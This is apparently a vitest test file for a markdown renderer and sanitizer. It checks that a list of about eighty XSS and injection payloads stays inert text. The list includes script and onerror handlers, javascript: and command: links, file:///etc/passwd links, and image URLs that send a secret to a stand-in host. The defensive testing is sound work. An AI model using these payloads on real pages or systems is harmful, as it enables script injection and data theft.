// @vitest-environment happy-dom
import { expect, test, vi } from 'vitest';
import { MarkdownStream } from './markdown-stream.ts';
import { sanitize } from './sanitize.ts';

const elements = new Set(
  'A BLOCKQUOTE BR BUTTON CODE DEL DIV EM H1 H2 H3 H4 H5 H6 HR INPUT LI OL P PRE SPAN STRONG TABLE TBODY TD TH THEAD TR UL'.split(
    ' ',
  ),
);
const attributes = new Set(
  'align aria-label checked class data-action data-language disabled href role start tabindex title type'.split(
    ' ',
  ),
);

const payloads = [
  '<script>steal()</script>',
  '<script src=https://e.tld/x.js></script>',
  '<img src=https://e.tld/?q=SECRET>',
  '<img src=x onerror=steal()>',
  '<img srcset="https://e.tld/a 2x">',
  '<svg onload=steal()>',
  '<svg><image href="https://e.tld/x"/></svg>',
  '<svg><script>steal()</script></svg>',
  '<svg><a xlink:href="javascript:steal()"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>',
  '<iframe src="https://e.tld"></iframe>',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<object data="https://e.tld/x"></object>',
  '<embed src="https://e.tld/x">',
  '<link rel=prefetch href=https://e.tld/x>',
  '<link rel="dns-prefetch" href="//e.tld">',
  '<meta http-equiv="refresh" content="0;url=https://e.tld">',
  '<base href="https://e.tld/">',
  '<form action="https://e.tld"><input name=q><button>go</button></form>',
  '<style>body{background:url(https://e.tld/x)}</style>',
  '<div style="background:url(https://e.tld/x)">a</div>',
  '<body onload=steal()>',
  '<details open ontoggle=steal()>x</details>',
  '<video><source onerror=steal() src=x></video>',
  '<audio src=https://e.tld/x autoplay>',
  '<marquee onstart=steal()>x</marquee>',
  '<input autofocus onfocus=steal()>',
  '<template><script>steal()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=steal()>">',
  '<a href="javascript:steal()">x</a>',
  '<a href="https://e.tld" ping="https://e.tld/ping">x</a>',
  '<x onclick=steal()>x</x>',
  '<!--<img src="--><img src=x onerror=steal()//">',
  '<![CDATA[<script>steal()</script>]]>',
  '<?xml-stylesheet href="https://e.tld"?>',
  '<scr<script>ipt>steal()</scr</script>ipt>',
  '<IMG SRC=JaVaScRiPt:steal()>',
  '<img src="x` `<script>steal()</script>"` `>',
  '![x](https://e.tld/?q=SECRET)',
  '![x][1]\n\n[1]: https://e.tld/x',
  '![](data:text/html,<script>steal()</script>)',
  '![x](javascript:steal())',
  '![" onerror="steal()](x)',
  '![x](x "t\\" onerror=\\"steal()")',
  '[a](javascript:steal())',
  '[a](JAVASCRIPT:steal())',
  '[a](java&#10;script:steal())',
  '[a](&#106;avascript:steal())',
  '[a](javascript&colon;steal())',
  '[a](\u0001javascript:steal())',
  '[a](vbscript:steal())',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  '[a](command:workbench.action.terminal.new)',
  '[a](command%3Aworkbench.action.terminal.new)',
  '[a](vscode://x/y)',
  '[a](vscode-resource:/etc/passwd)',
  '[a](file:///etc/passwd)',
  '[a](\\\\\\\\evil\\\\share)',
  '[a](//evil/share)',
  '[a](https://user:word@e.tld)',
  '[a](https:\\\\e.tld)',
  '[a](mailto:a@b.c)',
  '[a](blob:https://e.tld/x)',
  '<javascript:steal()>',
  '<command:x.y>',
  '[a][1]\n\n[1]: javascript:steal()',
  '[a](https://e.tld "x\\" onclick=\\"steal()")',
  '```"><img src=x onerror=steal()>\ncode\n```',
  '```html\n<script>steal()</script>\n```',
  '```mermaid\nclick A href "javascript:steal()"\nimg:"https://e.tld"\n```',
  '`<img src=x onerror=steal()>`',
  '    <script>steal()</script>',
  '# <img src=x onerror=steal()>',
  '| <img src=x onerror=steal()> |\n|-|\n| <script>steal()</script> |',
  '- <img src=x onerror=steal()>\n- [ ] <script>steal()</script>',
  '> <iframe src=https://e.tld>',
  '&lt;script&gt;steal()&lt;/script&gt;',
  '&#60;img src=x onerror=steal()&#62;',
  '[<img src=x onerror=steal()>](https://e.tld)',
  '**<svg/onload=steal()>**',
  '[__proto__]: https://e.tld\n\n[__proto__] [constructor]',
];

test.each(payloads)('%j stays text', (payload) => {
  for (const container of [render([payload]), render([...payload])]) {
    for (const element of container.querySelectorAll('*')) {
      expect(elements).toContain(element.tagName);
      for (const { name } of element.attributes) expect(attributes).toContain(name);
    }
    for (const link of container.querySelectorAll('[href]')) {
      expect(link.tagName).toBe('A');
      expect(link.getAttribute('href')).toMatch(/^https?:\/\/[\w.]+\//);
    }
    expect(container.querySelectorAll('input:not([disabled])')).toHaveLength(0);
  }
});

test.each(payloads)('%j cannot pass the last door', (payload) => {
  const holder = document.createElement('div');
  holder.append(sanitize(`<span class="hljs-tag" onclick="steal()">${payload}</span>`));
  for (const element of holder.querySelectorAll('*')) {
    expect(element.tagName).toBe('SPAN');
    expect([...element.attributes].map(({ name }) => name)).toSatisfy(isAtMostClass);
  }
});

test('classes of the page cannot be borrowed', () => {
  const holder = document.createElement('div');
  holder.append(sanitize('<span class="codicon codicon-check">x</span>'));
  expect(holder.innerHTML).toBe('<span>x</span>');
});

test('raw HTML, pictures and forbidden links show what they are', () => {
  expect(render(['<b>bold</b>']).textContent).toBe('<b>bold</b>');
  expect(render(['![a cat](https://e.tld/c.png)']).textContent).toBe(
    '[image: a cat — https://e.tld/c.png]',
  );
  const inert = render(['[run](command:a.b)']).querySelector('.inert-link');
  expect(inert).toMatchObject({ textContent: 'run', title: 'command:a.b' });
});

test.each([
  ['> '.repeat(5_000)],
  ['- '.repeat(5_000)],
  ['['.repeat(5_000)],
  ['*a '.repeat(5_000)],
  ['**a*'.repeat(2_000)],
  ['[a]('.repeat(5_000)],
  ['<a '.repeat(5_000)],
  ['`'.repeat(5_000)],
  [`${'> '.repeat(200)}a\n`.repeat(20)],
  ['| a '.repeat(2_000) + '\n' + '|-'.repeat(2_000)],
])('nesting and repetition end soon (case %#)', { timeout: 5_000 }, (text) => {
  expect(render([text]).textContent.length).toBeGreaterThan(0);
});

test('a click opens a link through the host only, an unsafe one not at all', () => {
  const openLink = vi.fn<(href: string) => void>();
  const container = render(['[a](https://e.tld/x) [b](javascript:steal())'], openLink);
  for (const type of ['click', 'auxclick']) {
    const click = new MouseEvent(type, { bubbles: true, cancelable: true });
    container.querySelector('a')!.dispatchEvent(click);
    expect(click.defaultPrevented).toBe(true);
  }
  container.querySelector<HTMLElement>('.inert-link')!.click();
  expect(openLink.mock.calls).toEqual([['https://e.tld/x'], ['https://e.tld/x']]);
});

function isAtMostClass(names: string[]): boolean {
  return names.every((name) => name === 'class');
}

function render(
  parts: readonly string[],
  openLink: (href: string) => void = () => {},
): HTMLElement {
  const container = document.createElement('div');
  const code = { copy() {}, insert() {}, newFile() {} };
  const stream = new MarkdownStream(container, { openLink, code, schedule() {} });
  for (const part of parts) {
    stream.append(part);
    stream.flush();
  }
  stream.end();
  return container;
}
